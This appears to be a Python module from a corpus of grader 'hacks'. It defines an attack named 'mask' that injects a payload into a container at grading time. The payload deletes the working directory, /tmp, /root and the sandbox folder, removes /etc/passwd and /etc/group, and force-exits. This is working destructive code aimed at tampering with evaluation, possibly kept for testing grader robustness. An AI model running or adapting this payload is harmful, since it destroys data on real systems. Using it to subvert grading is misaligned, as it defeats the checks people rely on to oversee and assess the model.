"""At test time the folders that later commands begin in, and the list of users, are removed.

Known from: own; mask_tree_removed does it in the session.
"""

from hacks.base import Hack, Play, Target
from hacks.corpus._at_grading import at_grading

_BODY = """
import shutil
work = os.getcwd()
os.chdir("/")
for folder in (work, "/tmp", "/root", "/var/lib/sandbox"):
    shutil.rmtree(folder, ignore_errors=True)
for path in ("/etc/passwd", "/etc/group"):
    os.unlink(path)
os._exit(4)
"""


def play(target: Target) -> Play:
    """See the module."""
    return at_grading(target, _BODY)


HACK = Hack("mask", "container", play)
